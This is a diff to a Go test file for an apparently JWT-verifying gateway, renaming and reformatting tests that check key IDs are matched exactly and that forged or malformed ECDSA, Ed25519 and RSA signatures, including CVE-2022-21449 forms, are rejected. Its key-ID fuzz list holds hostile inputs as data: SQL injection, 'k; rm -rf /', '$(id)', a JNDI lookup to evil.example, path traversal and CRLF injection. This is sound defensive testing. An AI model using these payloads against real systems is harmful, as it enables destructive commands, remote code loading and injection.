@@ -12,8 +12,11 @@ import (
 	"github.com/modelgate/modelgate/internal/reason"
 )
 
-func TestJ9KeyIDIsOpaque(t *testing.T) {
-	w := newWorld(t, row("corp", []string{"ES256"}, publicJWK(ecKey, "k", ""), publicJWK(evilEC, "../k", ""), publicJWK(newEC(ecKey.Curve), "", "")))
+// TestKeyIDIsComparedExactly: kid is neither a path nor a query nor a URL (RFC 7515
+// section 4.1.4, RFC 8725 section 3.10).
+func TestKeyIDIsComparedExactly(t *testing.T) {
+	w := newWorld(t, row("corp", []string{"ES256"},
+		publicJWK(ecKey, "k", ""), publicJWK(evilEC, "../k", ""), publicJWK(newEC(ecKey.Curve), "", "")))
 	one := newWorld(t, row("corp", []string{"ES256"}, publicJWK(ecKey, "", "")))
 	header := func(kid any) m { return with(m{"alg": "ES256"}, "kid", kid) }
 	w.bearer(t,
@@ -24,8 +27,10 @@ func TestJ9KeyIDIsOpaque(t *testing.T) {
 		attempt{"no kid among three keys", corpToken(header(missing{}), claimsOf("corp")), reason.KeyUnknown})
 	one.bearer(t, attempt{"no kid, one key", corpToken(header(missing{}), claimsOf("corp")), reason.Allowed})
 	for _, kid := range []string{
-		"", " ", "K", "k ", " k", "k\x00", "\x00", "k\n", "./k", "k/", "k/../k", "../../../../dev/null", "/dev/null", `..\k`, "%6b", "*", "?", "k*", ".*",
-		"' OR '1'='1", "k' UNION SELECT 'secret", "k; rm -rf /", "$(id)", "${jndi:ldap://evil.example}", "https://evil.example/k", "k\r\nX-Evil: 1",
+		"", " ", "K", "k ", " k", "k\x00", "\x00", "k\n", "./k", "k/", "k/../k", "../../../../dev/null", "/dev/null",
+		`..\k`, "%6b", "*", "?", "k*", ".*",
+		"' OR '1'='1", "k' UNION SELECT 'secret", "k; rm -rf /", "$(id)", "${jndi:ldap://evil.example}",
+		"https://evil.example/k", "k\r\nX-Evil: 1",
 		"0", "null", "ｋ", "\u212a", strings.Repeat("k", 257), strings.Repeat("k", 10_000), strings.Repeat("../", 3000),
 	} {
 		name := fmt.Sprintf("kid %.40q", kid)
@@ -42,8 +47,8 @@ func TestJ9KeyIDIsOpaque(t *testing.T) {
 	w.bearer(t, attempt{"kid of 256", corpToken(header(long), claimsOf("corp")), reason.Allowed})
 }
 
-// A key is of one issuer, whatever its kid.
-func TestJ10KeysBelongToIssuer(t *testing.T) {
+// TestKeysBelongToTheirIssuer: whatever their kid (RFC 8725 section 3.8).
+func TestKeysBelongToTheirIssuer(t *testing.T) {
 	w := newWorld(t,
 		row("one", []string{"ES256"}, publicJWK(ecKey, "shared", "ES256"), publicJWK(newEC(ecKey.Curve), "only-one", "ES256")),
 		row("two", []string{"ES256"}, publicJWK(evilEC, "shared", "ES256")),
@@ -68,8 +73,9 @@ func TestJ10KeysBelongToIssuer(t *testing.T) {
 // fixed is bytes big-endian in size bytes.
 func fixed(n *big.Int, size int) []byte { return n.FillBytes(make([]byte, size)) }
 
-// CVE-2022-21449: r and s from 1 to n-1, at their full and only length.
-func TestJ12SignatureForm(t *testing.T) {
+// TestECDSASignatureForm: r and s from 1 to n-1, at their full length (RFC 7518 section
+// 3.4; CVE-2022-21449).
+func TestECDSASignatureForm(t *testing.T) {
 	for _, x := range []struct {
 		alg string
 		key *ecdsa.PrivateKey
@@ -82,8 +88,14 @@ func TestJ12SignatureForm(t *testing.T) {
 		params, one, size := x.key.Params(), big.NewInt(1), len(sig)/2
 		n := params.N
 		odd := map[string]*big.Int{
-			"0": new(big.Int), "1": one, "n-1": new(big.Int).Sub(n, one), "n": n, "n+1": new(big.Int).Add(n, one), "p": params.P,
-			"good r": new(big.Int).SetBytes(sig[:size]), "good s": new(big.Int).SetBytes(sig[size:]),
+			"0":      new(big.Int),
+			"1":      one,
+			"n-1":    new(big.Int).Sub(n, one),
+			"n":      n,
+			"n+1":    new(big.Int).Add(n, one),
+			"p":      params.P,
+			"good r": new(big.Int).SetBytes(sig[:size]),
+			"good s": new(big.Int).SetBytes(sig[size:]),
 		}
 		for r, rv := range odd {
 			for s, sv := range odd {
@@ -96,14 +108,22 @@ func TestJ12SignatureForm(t *testing.T) {
 		}
 		der, _ := x.key.Sign(nil, make([]byte, 32), nil)
 		for name, wrong := range map[string][]byte{
-			"empty": {}, "one byte": {0}, "r only": sig[:size], "short": sig[:2*size-1], "long": append(sig[:2*size:2*size], 0), "zero before": append([]byte{0}, sig...),
-			"twice": append(sig[:2*size:2*size], sig...), "DER": der, "r and s at 4 bytes more": append(append(make([]byte, 4), sig[:size]...), append(make([]byte, 4), sig[size:]...)...),
-			"swapped": append(sig[size:2*size:2*size], sig[:size]...), "flipped": append([]byte{sig[0] ^ 1}, sig[1:]...),
+			"empty":                   {},
+			"one byte":                {0},
+			"r only":                  sig[:size],
+			"short":                   sig[:2*size-1],
+			"long":                    append(sig[:2*size:2*size], 0),
+			"zero before":             append([]byte{0}, sig...),
+			"twice":                   append(sig[:2*size:2*size], sig...),
+			"DER":                     der,
+			"r and s at 4 bytes more": append(append(make([]byte, 4), sig[:size]...), append(make([]byte, 4), sig[size:]...)...),
+			"swapped":                 append(sig[size:2*size:2*size], sig[:size]...),
+			"flipped":                 append([]byte{sig[0] ^ 1}, sig[1:]...),
 		} {
 			w.bearer(t, attempt{x.alg + " signature " + name, text + b64(wrong), reason.SignatureInvalid})
 		}
 	}
-	// P-521 has room for r+n, which is r to whoever reduces first.
+	// P-521 has room for r+n, which is r to a verifier that reduces first.
 	w := newWorld(t, row("corp", []string{"ES512"}, publicJWK(p521Key, "", "")))
 	good := sign("ES512", p521Key, m{"alg": "ES512"}, claimsOf("corp"))
 	text := good[:strings.LastIndexByte(good, '.')+1]
@@ -112,8 +132,9 @@ func TestJ12SignatureForm(t *testing.T) {
 	w.bearer(t, attempt{"ES512 with r+n", text + b64(append(fixed(more, 66), sig[66:]...)), reason.SignatureInvalid})
 }
 
-// The same for Ed25519, whose s+l is s to a lax verifier, and for RSA, whose
-// signature has the modulus' length and is below it.
+// TestOtherSignatureForms: s of Ed25519 is below the group's order (RFC 8032 section
+// 5.1.7), and an RSA signature is below the modulus and has its length (RFC 8017
+// section 8.2.2).
 func TestOtherSignatureForms(t *testing.T) {
 	w := newWorld(t, row("corp", []string{"EdDSA", "RS256"}, publicJWK(edKey, "", ""), publicJWK(rsaKey, "", "")))
 	for _, x := range []struct {
@@ -136,8 +157,14 @@ func TestOtherSignatureForms(t *testing.T) {
 			more = fixed(sum, len(sig))
 		}
 		for name, wrong := range map[string][]byte{
-			"plus the order": more, "empty": {}, "zeros": make([]byte, len(sig)), "short": sig[1:], "long": append(sig[:len(sig):len(sig)], 0),
-			"zero before": append([]byte{0}, sig...), "flipped": append([]byte{sig[0] ^ 1}, sig[1:]...), "the modulus": fixed(x.mod, len(sig)),
+			"plus the order": more,
+			"empty":          {},
+			"zeros":          make([]byte, len(sig)),
+			"short":          sig[1:],
+			"long":           append(sig[:len(sig):len(sig)], 0),
+			"zero before":    append([]byte{0}, sig...),
+			"flipped":        append([]byte{sig[0] ^ 1}, sig[1:]...),
+			"the modulus":    fixed(x.mod, len(sig)),
 		} {
 			w.bearer(t, attempt{x.alg + " signature " + name, text + b64(wrong), reason.SignatureInvalid})
 		}
@@ -155,8 +182,8 @@ func reversed(b []byte) []byte {
 	return out
 }
 
-// The verifier outside the module has the first word, and only for signatures
-// of the right length.
+// TestVerifyOutside: Env.Verify decides before Go does, but only for signatures of the
+// right length.
 func TestVerifyOutside(t *testing.T) {
 	w, good := corp(t)
 	forged := sign("ES256", evilEC, m{"alg": "ES256", "kid": "k"}, claimsOf("corp"))
